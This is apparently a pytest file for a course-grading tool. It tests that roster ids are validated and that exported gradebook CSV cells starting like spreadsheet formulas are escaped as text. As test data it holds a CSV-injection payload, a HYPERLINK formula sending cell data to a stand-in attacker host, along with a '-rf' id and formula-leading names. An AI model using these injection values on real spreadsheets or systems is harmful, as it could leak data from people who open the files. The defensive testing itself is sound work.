"""Ids and names that reach the gradebook, and what `course export` writes, are safe in a spreadsheet.

A roster row's id passes the same check as an id taken from a download; an export cell that a spreadsheet
would run as a formula is written as text; names with commas and quotes survive Python's csv module.
"""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from course_tools import cli, export
from test_collect import course, make_zip, notebook, run_collect  # noqa: F401  (run_collect is a fixture)

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'


@pytest.mark.slow
def test_roster_ids_are_checked_like_collected_ids(tmp_path, run_collect):
    """A roster row whose id is a formula (or not an id at all) is refused and never imported; the rest is."""
    from nbgrader.api import Gradebook

    root = course(tmp_path)
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "first_name", "last_name", "email", "lms_user_id"])
        writer.writerow([FORMULA, "Eve", "Il", "", ""])
        writer.writerow(["-rf", "Dash", "Dash", "", ""])
        writer.writerow(["ada", "Ada, Countess", 'O"Brien', "", ""])
    z = make_zip(tmp_path / "d.zip", [("ada/one.ipynb", notebook("a1")), ("ada/two.ipynb", notebook("a2"))])
    done = run_collect(root, str(z), "--roster", str(roster))
    assert done.returncode == 2, done.stdout + done.stderr
    assert "roster row 1 refused: student id" in done.stderr and "roster row 2 refused" in done.stderr
    assert "roster: 1 student(s) imported" in done.stdout
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        assert [(s.id, s.first_name, s.last_name) for s in gb.students] == [("ada", "Ada, Countess", 'O"Brien')]


@pytest.mark.slow
def test_export_cells_are_never_formulas_and_names_round_trip(tmp_path, run_collect, monkeypatch, capsys):
    """An id or name that starts like a formula (put in the gradebook behind `course`'s back) is exported as
    text; names with commas and quotes come back from csv unchanged."""
    root = course(tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text('id,first_name,last_name\nada,"Ada, Countess","O""Brien"\n')
    assert run_collect(root, str(make_zip(tmp_path / "d.zip", [("ada/one.ipynb", notebook("a1"))])),
                       "--roster", str(roster)).returncode == 0
    hostile = {"=1+2": ("+SUM(A1:A9)", "@cmd"), "mallory": ("-2+3", "\tTAB"), "carol": ("\rCR", "Smith")}
    for student, (first, last) in hostile.items():
        done = subprocess.run([sys.executable, "-m", "nbgrader", "db", "student", "add", student,
                               f"--first-name={first}", f"--last-name={last}"], cwd=root, capture_output=True,
                              text=True)
        assert done.returncode == 0, done.stderr
    monkeypatch.chdir(root)
    to = tmp_path / "grades.csv"
    assert cli.main(["export", "--to", str(to)]) == 0
    rows = list(csv.DictReader(to.open(newline="")))
    cells = [value for row in rows for value in row.values()]
    assert cells and not [c for c in cells if c.startswith(export.FORMULA_START)], cells
    names = {r["student"]: (r["first_name"], r["last_name"]) for r in rows}
    assert names["ada"] == ("Ada, Countess", 'O"Brien')
    assert names["'=1+2"] == ("'+SUM(A1:A9)", "'@cmd") and names["mallory"] == ("'-2+3", "'\tTAB")
    assert names["carol"] == ("'\rCR", "Smith")
    assert all(r["score"] == "0" for r in rows)  # numbers stay numbers


@pytest.mark.slow
def test_submission_folders_with_invalid_ids_are_not_graded(tmp_path):
    """A folder under submitted/ becomes a gradebook id when graded: one that is not a valid id is an `error`
    that says to rename it, and never reaches the gradebook."""
    from nbgrader.api import Gradebook

    sys.path.insert(0, str(Path(__file__).parent / "fixtures"))
    import tiny_course as tc

    root = tc.build_course(tmp_path / "course")
    tc.submit(root, "=1+1", tc.FULL)
    out = subprocess.run([sys.executable, "-m", "course_tools.cli", "grade", tc.ASSIGNMENT, "--no-prepare"], cwd=root,
                         env={**tc.env(), "COURSE_ROOT": str(root)}, capture_output=True, text=True, timeout=600)
    row = next(line for line in out.stdout.splitlines() if line.startswith("=1+1"))
    assert out.returncode == 1 and " error " in row and "rename submitted/=1+1" in row, out.stdout + out.stderr
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        assert [s.id for s in gb.students] == []
